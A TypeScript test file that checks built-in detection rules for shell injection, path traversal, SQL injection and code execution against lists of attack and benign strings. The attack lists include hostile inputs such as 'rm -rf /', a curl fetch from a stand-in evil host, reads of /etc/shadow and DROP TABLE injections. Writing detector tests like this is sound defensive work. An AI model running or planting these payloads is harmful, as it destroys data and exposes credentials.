import { describe, expect, it } from "vitest";
import { BUILTIN_CONTENT_RULES } from "../../engine/compiler/builtin-rules.js";
import { checkPattern, compilePattern } from "../../engine/compiler/regex.js";
import { parseTable, reverseStart, searchFirstEnd } from "../../engine/compiler/dfa-sim.js";
import { assertCanonical } from "./table-helpers.js";

// Positives use the attack strings of the original's eval scenarios (#1, #13, #23) where they apply.
const EXAMPLES: Record<string, { positive: string[]; negative: string[] }> = {
  shell_injection: {
    positive: [
      "rm -rf /",
      "; rm -rf / #",
      "$(curl http://evil.example/x.sh)",
      "echo `id`",
      "ls; sudo rm x",
      "ls ;sudo",
      "true && curl http://x",
      "a &&bash",
      "cat x | bash",
      "cat x|SH -",
      "echo pwned > /etc/cron.d/x",
      "echo 1 >/proc/sys/kernel/x",
      "RM -R /home",
    ],
    negative: [
      "remove the file please",
      "rm -i notes.txt",
      "ls; sudoku solver",
      "build && shipit",
      "a && nce",
      "price is $5 (approx)",
      "echo hello > /tmp/out",
      "firm -rx",
      "",
    ],
  },
  path_traversal: {
    positive: [
      "../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "%2e%2e%2fsecret",
      "%2E%2E/secret",
      ".%2e/secret",
      "file.txt%00.png",
      "cat /etc/shadow",
      "/ETC/HOSTS",
      "\\\\server\\share",
    ],
    negative: [
      "docs/readme.md",
      "version 1..2",
      "./local/file",
      "100% sure",
      "C:\\Users\\me",
      "%2e/x",
      "/etc/hostname",
    ],
  },
  sql_injection: {
    positive: [
      "' OR 1=1 --",
      "'; DROP TABLE policies; --",
      "x' or 2 = 2",
      "1 UNION SELECT password FROM users",
      "1 union all select 1",
      "a intersect select b",
      "x; delete from users",
      "1; TRUNCATE table t",
      "select 1 --",
      "name /* hidden */ = 1",
    ],
    negative: [
      "tell me about the union of sets",
      "select the best option",
      "ls --all files",
      "rock and roll",
      "it's 1=1 math",
      "x;dropped",
      "/* unterminated comment",
    ],
  },
  code_execution: {
    positive: [
      "__import__('os').system('id')",
      "eval(input())",
      "x = exec ('code')",
      "COMPILE(src)",
      "1+eval(x)",
      "importlib.import_module('os')",
      "os.system('ls')",
      "os.popen('id')",
      "os.execvp('sh', [])",
      "subprocess.Popen(['sh'])",
      "subprocess.check_output (cmd)",
      "subprocess.run(x)",
    ],
    negative: [
      "medieval(times)",
      "my_eval(x)",
      "evaluate(x)",
      "executive summary",
      "os.path.join(a)",
      "subprocess module docs",
      "compile the report",
    ],
  },
};

describe("built-in content rules", () => {
  it("are the four rules of the original", () => {
    expect(BUILTIN_CONTENT_RULES.map((r) => r.name)).toEqual([
      "shell_injection",
      "path_traversal",
      "sql_injection",
      "code_execution",
    ]);
    for (const r of BUILTIN_CONTENT_RULES) {
      expect(r.description.length).toBeGreaterThan(10);
      expect(() => checkPattern(r.source)).not.toThrow();
    }
  });

  for (const rule of BUILTIN_CONTENT_RULES) {
    describe(rule.name, () => {
      const search = compilePattern(rule.source, { kind: "search", caseInsensitive: true });
      const reverse = compilePattern(rule.source, { kind: "reverse", caseInsensitive: true });
      const anchored = compilePattern(rule.source, { kind: "anchored", caseInsensitive: true });
      const v8 = new RegExp(rule.source, "i");
      const ex = EXAMPLES[rule.name];
      if (ex === undefined) throw new Error(`no examples for ${rule.name}`);

      it("compiles within the default budget into canonical tables", () => {
        for (const d of [search, reverse, anchored]) {
          expect(d.states).toBeLessThanOrEqual(4096);
          assertCanonical(d.bytes);
        }
      });

      it(`matches ${ex.positive.length} attack strings`, () => {
        expect(ex.positive.length).toBeGreaterThanOrEqual(3);
        for (const text of ex.positive) {
          const end = searchFirstEnd(search, text);
          expect(end, text).toBeGreaterThanOrEqual(0);
          // The start the scanner reports is where V8 finds the first match.
          const start = reverseStart(reverse, text, end);
          expect(start, text).toBe(v8.exec(text)?.index);
          expect(v8.test(text), text).toBe(true);
        }
      });

      it(`does not match ${ex.negative.length} benign strings`, () => {
        expect(ex.negative.length).toBeGreaterThanOrEqual(3);
        for (const text of ex.negative) {
          expect(searchFirstEnd(search, text), text).toBe(-1);
          expect(v8.test(text), text).toBe(false);
        }
      });

      it("has the expected anchoring", () => {
        const t = parseTable(search.bytes);
        expect(t.startAnchored).toBe(false);
        expect(t.endAnchored).toBe(rule.name === "shell_injection" || rule.name === "sql_injection");
      });
    });
  }
});
